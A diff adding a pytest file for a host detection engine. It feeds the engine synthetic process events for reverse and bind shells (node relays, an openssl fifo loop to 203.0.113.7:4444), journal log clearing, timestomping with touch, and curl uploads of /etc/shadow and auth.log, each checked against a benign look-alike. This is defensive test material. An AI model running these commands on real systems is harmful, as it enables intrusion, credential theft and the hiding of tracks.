@@ -1,0 +1,167 @@
+"""Issue 15 detection depth (s14-det): the behaviours our own variants found unseen,
+each with the benign look-alike that must stay silent."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+from bastion.detect.behavior import behavior_rules
+from bastion.detect.engine import Engine, Finding, RuleContext
+from bastion.proctable import ProcessTable
+from bastion.sensors.replay import read_all
+from support.trust import RecordedTrust
+
+
+class Rec:
+    """A tiny recording: exec/connect/file events with the kernel's fd 0/1 kinds."""
+
+    def __init__(self) -> None:
+        self.n = 0
+        self.lines: list[dict[str, Any]] = []
+        self.procs: dict[int, tuple[int, str]] = {}
+        self.exec(1, 0, "/sbin/init", ["/sbin/init"])
+        self.exec(100, 1, "/usr/bin/bash", ["-bash"])
+
+    def _hdr(self, pid: int) -> dict[str, Any]:
+        self.n += 1
+        ppid, exe = self.procs[pid]
+        return {"time": "2026-01-01T00:00:%02d.%06dZ" % divmod(self.n * 10000, 1_000_000),
+                "pid": pid, "tid": pid, "ppid": ppid, "uid": 0, "euid": 0, "gid": 0,
+                "cgroup_id": 1, "comm": exe.rsplit("/", 1)[1][:15], "start_ns": pid * 1000,
+                "exe": exe}
+
+    def exec(self, pid: int, ppid: int, exe: str, argv: list[str], stdin: str = "tty",
+             stdout: str = "tty", cwd: str = "/root") -> "Rec":
+        self.procs[pid] = (ppid, exe)
+        self.lines.append({"type": "exec", **self._hdr(pid), "filename": exe, "cwd": cwd,
+                           "argv": argv, "exe_dev": 1, "exe_ino": 1000 + len(exe),
+                           "exe_nlink": 1, "stdin": stdin, "stdout": stdout})
+        return self
+
+    def connect(self, pid: int, daddr: str, dport: int) -> "Rec":
+        self.lines.append({"type": "connect", **self._hdr(pid), "family": "inet",
+                           "protocol": "tcp", "daddr": daddr, "dport": dport})
+        return self
+
+    def run(self, tmp: Path) -> list[Finding]:
+        p = tmp / "rec.jsonl"
+        p.write_text("".join(json.dumps(x) + "\n" for x in self.lines))
+        procs, trust = ProcessTable(), RecordedTrust()
+        engine = Engine(behavior_rules(trust=trust))
+        ctx = RuleContext(procs)
+        out: list[Finding] = []
+        for ev in read_all(p):
+            trust.learn(ev)
+            procs.update(ev)
+            out += engine.evaluate(ev, ctx)
+        assert not engine.errors, engine.disabled
+        return out
+
+
+def of(found: list[Finding], rule: str) -> list[Finding]:
+    return [f for f in found if f.rule == f"behavior.{rule}"]
+
+
+def test_relayed_shell_parent_feeds_the_pipe(tmp_path: Path) -> None:
+    """node's net.connect + spawn('/bin/sh') with piped streams: the shell (not the relay)
+    is stopped; the same spawn by a process that never connected out is silent."""
+    r = Rec().exec(200, 100, "/usr/bin/node", ["node", "-e", "x"]).connect(200, "203.0.113.7", 4444)
+    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="pipe:[11]", stdout="pipe:[12]")
+    r.exec(300, 100, "/usr/bin/node", ["node", "build.js"])
+    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh"], stdin="pipe:[21]", stdout="pipe:[22]")
+    got = of(r.run(tmp_path), "relayed_shell")
+    assert [(f.pid, f.severity, f.action) for f in got] == [(201, "critical", "kill")]
+    assert got[0].evidence["relay"] == "node" and got[0].evidence["peer"] == "203.0.113.7:4444"
+
+
+def test_relayed_shell_fifo_loop_either_order(tmp_path: Path) -> None:
+    """``sh -i < fifo | openssl s_client > fifo``: the pair is made by the pipe inode,
+    whether the client connects after both execs or before the shell's exec."""
+    r = Rec().exec(200, 100, "/usr/bin/dash", ["/bin/sh", "-i"], stdin="pipe:[30]",
+                   stdout="pipe:[31]")
+    r.exec(201, 100, "/usr/bin/openssl", ["openssl", "s_client"], stdin="pipe:[31]",
+           stdout="pipe:[30]").connect(201, "203.0.113.7", 443)
+    r.exec(301, 100, "/usr/bin/openssl", ["openssl", "s_client"], stdin="pipe:[41]",
+           stdout="pipe:[40]").connect(301, "203.0.113.7", 443)
+    r.exec(300, 100, "/usr/bin/dash", ["/bin/sh", "-i"], stdin="pipe:[40]", stdout="pipe:[41]")
+    got = of(r.run(tmp_path), "relayed_shell")
+    assert sorted(f.pid for f in got) == [200, 300]
+
+
+def test_relayed_shell_leaves_pipelines_and_scripts(tmp_path: Path) -> None:
+    """``sh < x | gzip``, ``sh -c`` under a networked app, a login shell on a tty of a
+    networked tmux: none is a relayed session."""
+    r = Rec().exec(200, 100, "/usr/bin/dash", ["sh"], stdin="pipe:[50]", stdout="pipe:[51]")
+    r.exec(201, 100, "/usr/bin/gzip", ["gzip"], stdin="pipe:[51]", stdout="file")
+    r.exec(300, 100, "/usr/bin/python3.11", ["python3", "app.py"]).connect(300, "10.0.0.3", 5432)
+    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh", "-c", "ls"], stdin="pipe:[60]", stdout="pipe:[61]")
+    r.exec(400, 100, "/usr/bin/tmux", ["tmux"]).connect(400, "10.0.0.9", 22)
+    r.exec(401, 400, "/usr/bin/bash", ["-bash"], stdin="tty", stdout="tty")
+    found = r.run(tmp_path)
+    assert not of(found, "relayed_shell") and not of(found, "pty_socket_shell")
+
+
+def test_bind_shell_socket_stdio_from_the_kernel(tmp_path: Path) -> None:
+    """A shell handed an accepted socket as fd 0 and 1 (``Popen(['/bin/sh'], stdin=conn,
+    stdout=conn)``) is a bind/reverse shell by the kernel's report alone (no /proc look-up:
+    it may be gone before one)."""
+    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "srv.py"])
+    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="socket:[70]", stdout="socket:[70]")
+    r.exec(300, 100, "/usr/bin/dash", ["/bin/sh"], stdin="pipe:[80]", stdout="socket:[81]")
+    got = of(r.run(tmp_path), "reverse_shell")
+    assert [f.pid for f in got] == [201]
+
+
+def test_journal_vacuum_is_log_clearing(tmp_path: Path) -> None:
+    r = Rec().exec(200, 100, "/usr/bin/journalctl", ["journalctl", "--vacuum-time=1s"])
+    r.exec(201, 100, "/usr/bin/journalctl", ["journalctl", "-u", "ssh", "--since", "today"])
+    got = of(r.run(tmp_path), "log_clearing")
+    assert [(f.pid, f.severity) for f in got] == [(200, "medium")]
+
+
+def test_timestomp_bundled_and_joined_options(tmp_path: Path) -> None:
+    r = Rec().exec(200, 100, "/usr/bin/touch", ["touch", "-md", "2019-01-01", "/usr/bin/id"])
+    r.exec(201, 100, "/usr/bin/touch", ["touch", "--reference=/bin/ls", "sbin/x"], cwd="/usr")
+    r.exec(202, 100, "/usr/bin/touch", ["touch", "--time=mtime", "/usr/bin/id"])
+    r.exec(203, 100, "/usr/bin/touch", ["touch", "-d", "/usr/bin/id", "/home/u/f"])
+    got = of(r.run(tmp_path), "timestomp")
+    assert [(f.pid, f.evidence["paths"]) for f in got] == [(200, ["/usr/bin/id"]),
+                                                           (201, ["/usr/sbin/x"])]
+
+
+def test_exfil_upload_severity_by_file_class(tmp_path: Path) -> None:
+    r = Rec().exec(200, 100, "/usr/bin/curl", ["curl", "-T", "/etc/shadow", "ftp://h/"])
+    r.exec(201, 100, "/usr/bin/curl", ["curl", "--data-binary", "@/var/log/auth.log", "http://h"])
+    r.exec(202, 100, "/usr/bin/curl", ["curl", "--data-urlencode", "q@/etc/hostname", "http://h"])
+    r.exec(203, 100, "/usr/bin/curl", ["curl", "-F", "a=@report.xml", "http://h"], cwd="/home/u")
+    r.exec(204, 100, "/usr/bin/curl", ["curl", "--data-urlencode", "a=b@/etc/x", "http://h"])
+    got = of(r.run(tmp_path), "exfil_upload")
+    assert [(f.pid, f.severity) for f in got] == [(200, "high"), (201, "medium"), (202, "medium")]
+
+
+def test_pty_shell_gone_before_the_probe(tmp_path: Path) -> None:
+    """pty.spawn reverse shell whose session is over before the /proc look-up (the peer
+    sent ``id; exit`` at once): the kernel's character-device fd 0 of a shell reading its
+    commands decides; a ``sh -c`` of a networked app with /dev/null stdin does not."""
+    from bastion.detect.behavior import Probes
+    from bastion.detect.engine import Engine as E
+
+    r = Rec().exec(200, 100, "/usr/bin/python3.11", ["python3", "-c", "x"])
+    r.connect(200, "203.0.113.7", 4444)
+    r.exec(201, 200, "/usr/bin/dash", ["/bin/sh"], stdin="tty", stdout="tty")
+    r.exec(300, 100, "/usr/bin/python3.11", ["python3", "app.py"]).connect(300, "10.0.0.3", 5432)
+    r.exec(301, 300, "/usr/bin/dash", ["/bin/sh", "-c", "ls"], stdin="tty", stdout="pipe:[9]")
+    p = tmp_path / "rec.jsonl"
+    p.write_text("".join(json.dumps(x) + "\n" for x in r.lines))
+    procs, trust = ProcessTable(), RecordedTrust()
+    engine = E(behavior_rules(trust=trust, probes=Probes(stdio=lambda pid: None)))
+    ctx = RuleContext(procs)
+    found: list[Finding] = []
+    for ev in read_all(p):
+        trust.learn(ev)
+        procs.update(ev)
+        found += engine.evaluate(ev, ctx)
+    got = of(found, "pty_socket_shell")
+    assert [(f.pid, f.action) for f in got] == [(200, "kill-tree")]
